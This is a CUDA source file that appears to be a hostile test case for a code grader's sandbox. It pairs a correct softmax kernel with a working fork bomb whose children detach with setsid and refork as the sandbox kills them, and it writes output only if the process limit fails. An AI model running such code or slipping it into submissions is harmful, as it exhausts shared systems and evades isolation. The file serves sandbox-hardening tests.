// expect: wrong_answer
// message: never written
// Hostile (11): a fork bomb. It forks until the sandbox's per-uid process limit stops it; every child leaves
// the harness's process group (setsid) and waits, using no CPU, on a pipe whose only writer is the harness.
// When the harness exits and the sandbox starts killing, every child (and every child of theirs) forks as
// fast as it can, refilling each slot the sweep frees. The output is computed only if the bomb got more
// processes than the limit allows, so wrong_answer proves the limit held; the test then checks that not
// one of the processes outlived the run (and kills them itself with kill(-1) as the uid, if some did), and
// waits until the killed ones are reaped: until then they still count against the uid's process limit,
// which the grader's next run shares (docs/security.md).
#include <signal.h>
#include <unistd.h>

// A correct row softmax: one block of 256 threads per row (grid-stride over rows), float sums.
__global__ void softmax_rows(const float* x, float* y, int M, int N) {
    __shared__ float red[256];
    for (int r = blockIdx.x; r < M; r += gridDim.x) {
        const float* xr = x + (size_t)r * N;
        float* yr = y + (size_t)r * N;
        float m = -INFINITY;
        for (int i = threadIdx.x; i < N; i += blockDim.x) m = fmaxf(m, xr[i]);
        red[threadIdx.x] = m;
        __syncthreads();
        for (int s = blockDim.x / 2; s > 0; s >>= 1) {
            if (threadIdx.x < s) red[threadIdx.x] = fmaxf(red[threadIdx.x], red[threadIdx.x + s]);
            __syncthreads();
        }
        m = red[0];
        __syncthreads();
        float sum = 0.0f;
        for (int i = threadIdx.x; i < N; i += blockDim.x) sum += expf(xr[i] - m);
        red[threadIdx.x] = sum;
        __syncthreads();
        for (int s = blockDim.x / 2; s > 0; s >>= 1) {
            if (threadIdx.x < s) red[threadIdx.x] += red[threadIdx.x + s];
            __syncthreads();
        }
        sum = red[0];
        __syncthreads();
        for (int i = threadIdx.x; i < N; i += blockDim.x) yr[i] = expf(xr[i] - m) / sum;
    }
}

static void softmax(const float* x, float* y, int M, int N, cudaStream_t stream = 0) {
    softmax_rows<<<M < 65536 ? M : 65536, 256, 0, stream>>>(x, y, M, N);
}

static long bomb() {  // no CUDA in the children
    int fds[2];
    if (pipe(fds) != 0) return 0;
    long made = 0;
    for (int i = 0; i < 5000; ++i) {
        pid_t pid = fork();
        if (pid < 0) break;
        if (pid == 0) {
            close(fds[1]);
            setsid();
            char c;
            while (read(fds[0], &c, 1) != 0) {}  // until the harness, the pipe's only writer, is gone
            for (;;) fork();
        }
        ++made;
    }
    return made;
}

void solve(const float* input, float* output, int M, int N) {
    static bool escaped = bomb() >= 2000;
    if (!escaped) return;  // the defence held: leave the output unwritten
    softmax(input, output, M, N);
}
